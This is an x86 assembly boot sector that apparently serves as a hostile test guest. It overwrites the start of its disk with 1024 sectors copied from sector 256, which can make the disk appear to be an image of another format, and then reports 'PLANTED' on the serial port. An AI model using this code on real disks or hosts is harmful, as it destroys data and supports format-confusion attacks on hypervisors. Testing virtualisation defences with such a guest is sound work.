# A guest in one sector that means harm: copies what its disk has from sector 256 on, 1024 sectors, over
# the beginning of the disk, as an image of another format may begin, and says PLANTED on COM1.
        .code16
        .globl _start
_start: cli
        xor     %ax, %ax
        mov     %ax, %ds
        mov     %ax, %ss
        mov     $0x7c00, %sp
        ljmp    $0, $1f
1:      cld
2:      mov     $packet, %si
        movl    from, %eax
        movl    %eax, packet + 8
        mov     $0x42, %ah              # extended read
        mov     $0x80, %dl
        int     $0x13
        jc      halt
        mov     $packet, %si
        movl    from, %eax
        subl    $256, %eax
        movl    %eax, packet + 8
        mov     $0x4300, %ax            # extended write
        mov     $0x80, %dl
        int     $0x13
        jc      halt
        addl    $32, from
        cmpl    $1280, from
        jb      2b
        mov     $done, %si
        mov     $0x3f8, %dx
3:      lodsb
        test    %al, %al
        jz      halt
        out     %al, %dx
        jmp     3b
halt:   hlt
        jmp     halt

        .balign 4
from:   .long   256
packet: .byte   16, 0                   # 32 sectors, to and from 0000:8000
        .word   32, 0x8000, 0
        .long   0, 0
done:   .asciz  "PLANTED\r\n"

        .org    446
        .byte   0x80,0,1,0, 0x83,0,1,0
        .long   1, 1
        .org    510
        .word   0xaa55
